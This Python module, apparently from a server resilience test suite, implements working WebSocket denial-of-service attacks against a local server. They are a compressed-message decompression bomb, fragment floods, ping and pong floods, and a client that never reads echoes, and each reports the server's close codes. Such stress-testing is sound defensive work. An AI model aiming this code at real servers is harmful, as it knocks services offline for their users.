"""The WebSocket attacks; `attacks` registers and runs them with the others.

The frames have a mask of zeros, which is valid.
"""

from __future__ import annotations

import functools
import select
import socket
import time
import zlib
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from typing import Any

from compliance.abuse.herd import FIRST_SOURCE

Outcome = dict[str, Any]

_HANDSHAKE = (
    b"GET %b HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n%b\r\n"
)
_COMPRESSING = b"Sec-WebSocket-Extensions: permessage-deflate\r\n"
_MASK = bytes(4)
_BINARY, _COMPRESSED, _FRAGMENT, _CONTINUATION, _LAST, _CLOSE, _PING, _PONG = (
    0x82,
    0xC2,
    0x02,
    0x00,
    0x80,
    0x88,
    0x89,
    0x8A,
)
#: The size in bytes to which one of the messages inflates.
_INFLATED = 10_000_000
#: The size of one send in bytes.
_BLOCK = 64 * 1024
#: The number of control frames between two pauses.
_DOSE = 500
#: The time in seconds without progress after which an attack ends.
_TIMEOUT = 30.0


def frame(first: int, payload: bytes = b"") -> bytes:
    """Return one client frame."""
    size = len(payload)
    if size < 126:
        head = bytes((first, 128 | size))
    elif size < 1 << 16:
        head = bytes((first, 254)) + size.to_bytes(2, "big")
    else:
        head = bytes((first, 255)) + size.to_bytes(8, "big")
    return head + _MASK + payload


@functools.cache
def bomb() -> bytes:
    """Return a message of 9.7 kB that inflates to 10 MB."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return (compressor.compress(bytes(_INFLATED)) + compressor.flush(zlib.Z_SYNC_FLUSH))[:-4]


class _Attacker:
    """A connection after its handshake."""

    def __init__(self, sock: socket.socket, path: bytes, fields: bytes) -> None:
        self.sock = sock
        self.sent = 0
        self.received = b""
        self.ended = False
        sock.sendall(_HANDSHAKE % (path, fields))
        while b"\r\n\r\n" not in self.received:
            data = sock.recv(65536)
            if not data:
                raise ConnectionError("the handshake failed")
            self.received += data
        self.received = self.received.partition(b"\r\n\r\n")[2]
        sock.setblocking(False)

    def flood(self, blocks: Iterable[bytes]) -> None:
        """Send all blocks and a close frame while reading, until the server closes the connection."""
        for block in blocks:
            self._send(block)
            if self.ended:
                return
        self._send(frame(_CLOSE, b"\x03\xe8"))
        while not self.ended:
            if not select.select([self.sock], [], [], _TIMEOUT)[0]:
                raise TimeoutError("the server did not close the connection")
            self._read()

    def _send(self, data: bytes) -> None:
        rest = memoryview(data)
        while rest and not self.ended:
            readable, writable, _ = select.select([self.sock], [self.sock], [], _TIMEOUT)
            if readable:
                self._read()
            elif writable:
                try:
                    count = self.sock.send(rest)
                except OSError:
                    self.ended = True
                else:
                    self.sent += count
                    rest = rest[count:]
            else:
                raise TimeoutError("the server does not read")

    def _read(self) -> None:
        try:
            data = self.sock.recv(_BLOCK)
        except OSError:
            data = b""
        self.received = (self.received + data)[-200:]
        self.ended = not data

    @property
    def code(self) -> str:
        """Return the close code of the server, or "reset" if it sent no close frame."""
        at = self.received.rfind(b"\x88")
        return str(int.from_bytes(self.received[at + 2 : at + 4], "big")) if at >= 0 else "reset"


@contextmanager
def _attacker(port: int, path: bytes, fields: bytes = b"") -> Iterator[_Attacker]:
    with socket.socket() as sock:
        sock.bind((FIRST_SOURCE, 0))
        sock.settimeout(_TIMEOUT)
        sock.connect(("127.0.0.1", port))
        yield _Attacker(sock, path, fields)


def _flooded(port: int, *floods: Iterable[bytes]) -> Outcome:
    """Send each flood on a separate connection, one after the other."""
    answers: dict[str, int] = {}
    sent = 0
    for blocks in floods:
        with _attacker(port, b"/take", _COMPRESSING) as attacker:
            attacker.flood(blocks)
            answers[attacker.code] = answers.get(attacker.code, 0) + 1
            sent += attacker.sent
    return {"answers": answers, "sent": sent, "opened": len(floods)}


def _counted(number: float, scale: float) -> int:
    return max(1, int(number * scale))


def _repeated(data: bytes, count: int) -> Iterator[bytes]:
    """Yield the data `count` times, in blocks."""
    each = max(1, _BLOCK // len(data))
    for begin in range(0, count, each):
        yield data * min(each, count - begin)


def ws_inflating(port: int, seconds: float, scale: float) -> Outcome:
    """200 messages of 9.7 kB that inflate to 10 MB each."""
    return _flooded(port, _repeated(frame(_COMPRESSED, bomb()), _counted(200, scale)))


def ws_fragments(port: int, seconds: float, scale: float) -> Outcome:
    """Half a million fragments: empty, of one byte, and of one byte in messages of 4,000 fragments."""
    count = _counted(500_000, scale)
    begin = [frame(_FRAGMENT)]
    message = frame(_FRAGMENT, b"x") + frame(_CONTINUATION, b"x") * 3998 + frame(_LAST, b"x")
    return _flooded(
        port,
        [*begin, *_repeated(frame(_CONTINUATION), count), frame(_LAST)],
        [*begin, *_repeated(frame(_CONTINUATION, b"x"), count), frame(_LAST)],
        _repeated(message, _counted(count / 4000, 1)),
    )


def ws_pings(port: int, seconds: float, scale: float) -> Outcome:
    """Send half a million pings and as many pongs: once without pauses, once a few hundred at a time."""
    count = _counted(500_000, scale)
    return _flooded(
        port,
        _repeated(frame(_PING), count),
        _repeated(frame(_PONG), count),
        _dosed(_PING, count),
        _dosed(_PONG, count),
    )


def _dosed(first: int, count: int) -> Iterator[bytes]:
    """Yield `count` control frames, with pauses in which the server may read them."""
    for _ in range(max(1, count // _DOSE)):
        yield frame(first) * _DOSE
        time.sleep(0.002)


def ws_never_reading(port: int, seconds: float, scale: float) -> Outcome:
    """Send 50 MB to the echo handler, and never read the echoes."""
    message = frame(_BINARY, bytes(_BLOCK))
    sent, max_sent_messages = 0, _counted(800, scale)
    end = time.monotonic() + seconds
    with _attacker(port, b"/echo") as attacker:
        rest = memoryview(message)
        while time.monotonic() < end and sent < max_sent_messages * len(message):
            if not select.select([], [attacker.sock], [], 0.2)[1]:
                continue
            try:
                count = attacker.sock.send(rest)
            except OSError:
                break
            sent += count
            rest = rest[count:] or memoryview(message)
    return {"sent": sent}


ATTACKS: dict[str, Callable[[int, float, float], Outcome]] = {
    attack.__name__: attack for attack in (ws_inflating, ws_fragments, ws_pings, ws_never_reading)
}
